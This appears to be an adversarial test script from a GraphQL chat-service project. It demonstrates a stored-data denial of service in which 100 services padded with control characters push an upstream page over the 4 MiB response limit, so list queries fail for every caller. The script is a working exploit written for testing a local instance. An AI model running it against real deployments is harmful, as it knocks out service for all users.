// Stored-data DoS of list walks (not part of npm test). Creates 100 services through chatql whose
// settings are at the bounds chatql and the emulator accept, filled with control characters (JSON
// writes each as six bytes: ~44 KB per service). 100 consecutive such services make one upstream
// page of PageSize=100 about 4.4 MB, over CHAT_API_MAX_RESPONSE_BYTES (4 MiB): every `services(last:)`
// and every forward walk across them then fails with UPSTREAM_ERROR, for every caller.
//   node test/adversarial/oversized-page.mjs http://127.0.0.1:4100/graphql [bearer-token]
// Run against a throw-away data dir (CHATQL_DATA_DIR=/tmp/…): it leaves 100 services behind.
const [url = "http://127.0.0.1:4100/graphql", token] = process.argv.slice(2);
const headers = { "content-type": "application/json", ...(token ? { authorization: `Bearer ${token}` } : {}) };
const gql = async (query, variables) => (await fetch(url, { method: "POST", headers, body: JSON.stringify({ query, variables }) })).json();
const c = (n) => "\u0001".repeat(n);
const channel = { template: c(1024), sound: c(255) };
const input = {
  friendlyName: c(256),
  preWebhookUrl: "https://x.example/" + "a".repeat(2020),
  postWebhookUrl: "https://x.example/" + "a".repeat(2020),
  notifications: { newMessage: channel, addedToChannel: channel, removedFromChannel: channel, invitedToChannel: channel },
  media: { compatibilityMessage: c(1024) },
};
const create =
  "mutation($i: CreateServiceInput!) { a: createService(input: $i) { service { sid } userErrors { code } } b: createService(input: $i) { service { sid } userErrors { code } } }";
for (let i = 0; i < 50; i++) {
  const r = await gql(create, { i: input });
  if (!r.data?.a?.service || !r.data?.b?.service) throw new Error("create failed: " + JSON.stringify(r).slice(0, 300));
}
console.log("created 100 services of ~44 KB each");
for (const q of [
  "{ services(last: 1) { nodes { sid } } }",
  "{ services(first: 1000) { nodes { sid } } }",
  "{ services(first: 2) { nodes { sid } } }",
]) {
  const r = await gql(q);
  console.log(q, "→", JSON.stringify(r.errors?.map((e) => e.extensions.code) ?? "ok"));
}
